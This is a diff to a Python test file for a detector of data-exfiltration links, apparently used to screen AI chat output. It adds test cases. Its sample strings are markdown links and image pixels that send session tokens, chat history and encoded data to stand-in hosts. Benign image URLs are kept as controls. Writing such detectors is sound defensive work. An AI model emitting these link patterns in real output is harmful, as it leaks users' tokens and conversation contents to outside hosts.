@@ -19,6 +19,7 @@ DET = get_detectors(["exfil"])
         "[click](https://evil.example/?token={session_token})",
         "Visit https://evil.example/c?data={chat_history} right away",
         "![a](https://tracker.example/pixel.png?user=alice&msg=hello)",
+        "![p](https://collect.example/p.gif?p=SGVsbG8gd29ybGQ)",  # a one-letter parameter with data in it
     ],
 )
 def test_caught(text: str) -> None:
@@ -33,6 +34,10 @@ def test_caught(text: str) -> None:
         "See the [docs](https://docs.example.org/install?version=2) for details.",
         "![shield](https://img.shields.io/badge/license-MIT-blue.svg)",
         "Open https://example.org/search?q=python in a browser.",
+        # Contributor avatars and cache-busting versions: one-letter parameters holding a size or a number.
+        '<a href="https://github.com/alice"><img src="https://avatars.githubusercontent.com/u/1041385?v=4?s=100" '
+        'width="100px;" alt="Alice"/></a>',
+        "![diagram](https://example.org/img/arch.png?v=3)",
     ],
 )
 def test_benign_survives(text: str) -> None:
